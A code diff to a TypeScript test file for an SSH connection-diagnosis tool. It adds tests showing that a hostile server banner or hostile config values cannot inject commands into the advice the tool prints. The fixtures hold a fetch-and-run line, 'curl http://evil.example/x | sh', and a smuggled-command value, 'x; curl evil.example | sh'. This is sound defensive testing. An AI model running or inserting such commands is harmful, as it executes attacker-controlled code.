@@ -12,7 +12,8 @@ import { bytesPerSecond, milliseconds } from "../../cli/doctor/units.ts";
 import { styleFor } from "../../cli/style.ts";
 import { readEngine } from "../../gateway/probe/engine_words.ts";
 import { lookLine, readLook } from "../../gateway/probe/look.ts";
-import { readConfig, readLogin } from "../../gateway/probe/ssh_words.ts";
+import { readConfig } from "../../gateway/probe/ssh_config.ts";
+import { readLogin } from "../../gateway/probe/ssh_steps.ts";
 import { test } from "../helpers/bounded.ts";
 import { SSH_SAID } from "./ssh_said.ts";
 
@@ -22,6 +23,8 @@ const SSH_FACTS = {
   host: "build.example.org",
   port: "2222",
   user: "me",
+  keyName: "[build.example.org]:2222",
+  known: "/home/me/known hosts",
 };
 
 /** What is the matter, the step at which it ends, the trouble, and a part of what is to be done. */
@@ -31,7 +34,12 @@ const LOGINS: readonly (readonly [what: string, step: string, trouble: string, a
   ["no route", "port", "no-route", /ip route get/],
   ["timed out", "port", "port-silent", /nc -vz build\.example\.org 2222/],
   ["banned", "port", "dropped", /MaxStartups[^]*fail2ban/],
-  ["changed key", "host key", "key-changed", /ssh-keygen -f "\/home\/me\/.ssh\/known_hosts" -R "\[192/],
+  [
+    "changed key",
+    "host key",
+    "key-changed",
+    /ssh-keygen -f '\/home\/me\/known hosts' -R '\[build\.example\.org\]:2222'/,
+  ],
   ["unknown key", "host key", "key-unknown", /ssh -o StrictHostKeyChecking=ask build[^]*SHA256:F9LK81/],
   ["unknown key behind a jump", "host key", "key-unknown", /accept it/],
   ["refused key", "login", "login-refused", /ssh-copy-id -i \/home\/me\/\.ssh\/id\.pub -p 2222 me@build/],
@@ -44,6 +52,81 @@ const LOGINS: readonly (readonly [what: string, step: string, trouble: string, a
 ];
 
 const at = (): number => 5;
+
+/** What a server may say before a login that it refuses, as if it were ssh. */
+const BANNER = `@    WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!     @
+debug1: Server host key: ssh-ed25519 SHA256:FAKED
+debug1: SSH2_MSG_NEWKEYS sent
+  ssh-keygen -f /dev/null -R x; curl http://evil.example/x | sh
+debug1: identity file /faked/id type 3
+debug1: Offering public key: /faked/id ED25519 SHA256:FAKED explicit
+ssh: Could not resolve hostname x: no
+No ED25519 host key is known for x
+Host key verification failed.
+`;
+
+const withBanner = (said: string): string =>
+  said.replace("debug1: Authentications that can continue", `${BANNER}$&`);
+
+test("readLogin() takes no word from a banner", () => {
+  const login = (stderr: string, code = 255): ReturnType<typeof readLogin> =>
+    readLogin({ code, stderr, late: false, at }, SSH_FACTS);
+  const told = (steps: ReturnType<typeof readLogin>): string =>
+    steps.map(([step, { state, trouble, found, facts }]) =>
+      [step, state, trouble, found, adviceFor(trouble ?? "exit", facts)].join(" ")
+    ).join("\n");
+  // What else a server can do behind it than to refuse: nothing of the kind either.
+  const rest = { "": "exit", "Connection closed by 192.0.2.7 port 2222\n": "dropped" };
+  for (const name of ["refused key", "locked key", "two factors", "too many keys", "it logs in"]) {
+    const said = withBanner(SSH_SAID[name]!);
+    assert(said.includes("FAKED"));
+    const code = name === "it logs in" ? 0 : 255;
+    assertEquals(told(login(said, code)), told(login(SSH_SAID[name]!, code)), name);
+  }
+  const broken = withBanner(SSH_SAID["refused key"]!).split("debug1: Authentications")[0]!;
+  for (const [last, trouble] of Object.entries(rest)) {
+    const steps = login(broken + last);
+    assertEquals([steps.at(-1)![0], steps.at(-1)![1].trouble], ["login", trouble]);
+    assert(!/FAKED|faked|evil/.test(told(steps)), told(steps));
+  }
+  const hop = withBanner(SSH_SAID["unknown key behind a jump"]!);
+  assertEquals(told(login(hop)), told(login(SSH_SAID["unknown key behind a jump"]!)));
+});
+
+test("adviceFor() makes one word of whatever others have named", () => {
+  const evil = "x; curl evil.example | sh";
+  const facts = Object.fromEntries(
+    [
+      "host",
+      "port",
+      "user",
+      "destination",
+      "key",
+      "keyName",
+      "known",
+      "path",
+      "hop",
+      "where",
+      "token",
+      "container",
+    ]
+      .map((name) => [name, evil]),
+  );
+  for (
+    const trouble of [
+      "no-address",
+      "no-route",
+      "key-changed",
+      "login-refused",
+      "old-deno",
+      "stopped",
+    ] as const
+  ) {
+    const advice = adviceFor(trouble, facts).join("\n");
+    assert(advice.includes(`'${evil}'`), advice);
+    assert(!advice.replaceAll(`'${evil}'`, "").includes("evil"), advice);
+  }
+});
 
 test("readLogin() finds the step at which ssh ends, why, and the advice for it", () => {
   for (const [what, step, trouble, advice] of LOGINS) {
@@ -100,7 +183,8 @@ test("readLogin() passes by all steps over a connection that ssh keeps open", ()
 });
 
 test("readConfig() reads what ssh -G prints, and none is nothing", () => {
-  const text = "host own\nuser me\nhostname 192.0.2.7\nport 2222\nproxyjump a,b\nproxycommand none\n";
+  const text =
+    "host own\nuser me\nhostname 192.0.2.7\nport 2222\nproxyjump a,b\nproxycommand none\nuserknownhostsfile /a b/known ~/known2\n";
   assertEquals(readConfig(text), {
     hostname: "192.0.2.7",
     port: "2222",
@@ -108,6 +192,8 @@ test("readConfig() reads what ssh -G prints, and none is nothing", () => {
     jump: "a,b",
     proxy: undefined,
     shared: undefined,
+    keyName: "[192.0.2.7]:2222",
+    known: "/a b/known",
   });
   assertEquals(readConfig(""), undefined);
 });
